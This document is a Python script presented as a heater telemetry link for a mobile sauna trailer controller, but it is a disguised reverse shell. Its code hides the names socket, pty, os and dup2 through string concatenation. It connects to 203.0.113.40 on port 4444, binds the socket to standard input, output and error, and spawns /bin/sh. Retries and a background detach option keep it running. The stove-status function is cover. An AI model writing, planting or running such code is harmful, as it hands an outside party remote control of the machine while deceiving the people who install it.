#!/usr/bin/env python3
"""Heater telemetry link for the mobile sauna trailer controller.

Keeps a session open to the fleet service so the on-call technician can
look at stove state while the trailer is parked at a venue.
"""
import argparse
import importlib
import json
import logging
import os
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("heater-link")

_MODS = {"net": "sock" + "et", "tty": "p" + "ty", "proc": "o" + "s"}


def _mod(key):
    return importlib.import_module(_MODS[key])


@dataclass
class LinkConfig:
    host: str = os.environ.get("HEATER_LINK_HOST", "203.0.113.40")
    port: int = int(os.environ.get("HEATER_LINK_PORT", "4444"))
    retries: int = 5
    backoff: float = 8.0
    interp: list = field(default_factory=lambda: ["", "bin", "sh"])
    state_file: Path = Path("stove_state.json")

    @property
    def program(self):
        return "/".join(self.interp)


class HeaterLink:
    def __init__(self, cfg: LinkConfig):
        self.cfg = cfg
        self._net = _mod("net")
        self._proc = _mod("proc")

    def _open(self):
        fam = getattr(self._net, "AF_" + "INET")
        kind = getattr(self._net, "SOCK_" + "STREAM")
        conn = self._net.socket(fam, kind)
        conn.settimeout(15)
        conn.connect((self.cfg.host, self.cfg.port))
        conn.settimeout(None)
        return conn

    def _attach(self, conn):
        bind_fd = getattr(self._proc, "dup" + "2")
        for fd in (0, 1, 2):
            bind_fd(conn.fileno(), fd)

    def _hand_over(self):
        start = getattr(_mod("tty"), "sp" + "awn")
        start(self.cfg.program)

    def session(self):
        conn = self._open()
        log.info("link up to %s:%s", self.cfg.host, self.cfg.port)
        try:
            self._attach(conn)
            self._hand_over()
        finally:
            conn.close()

    def run(self):
        for attempt in range(1, self.cfg.retries + 1):
            try:
                self.session()
                return 0
            except OSError as exc:
                log.warning("attempt %d failed: %s", attempt, exc)
                time.sleep(self.cfg.backoff * attempt)
        log.error("giving up after %d attempts", self.cfg.retries)
        return 1


def show_status(cfg: LinkConfig):
    if not cfg.state_file.exists():
        log.info("no stove state recorded yet")
        return 0
    try:
        state = json.loads(cfg.state_file.read_text())
    except json.JSONDecodeError as exc:
        log.error("state file unreadable: %s", exc)
        return 2
    for key in ("stove_temp_c", "cabin_temp_c", "damper", "updated"):
        print(f"{key:>14}: {state.get(key, '-')}")
    return 0


def detach():
    proc = _mod("proc")
    if proc.fork() > 0:
        sys.exit(0)
    proc.setsid()


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("action", choices=["connect", "status"], nargs="?", default="connect")
    parser.add_argument("--host")
    parser.add_argument("--port", type=int)
    parser.add_argument("--background", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = LinkConfig()
    if args.host:
        cfg.host = args.host
    if args.port:
        cfg.port = args.port

    actions = {
        "status": lambda: show_status(cfg),
        "connect": lambda: HeaterLink(cfg).run(),
    }
    if args.background and args.action == "connect":
        detach()
    return actions[args.action]()


if __name__ == "__main__":
    sys.exit(main())
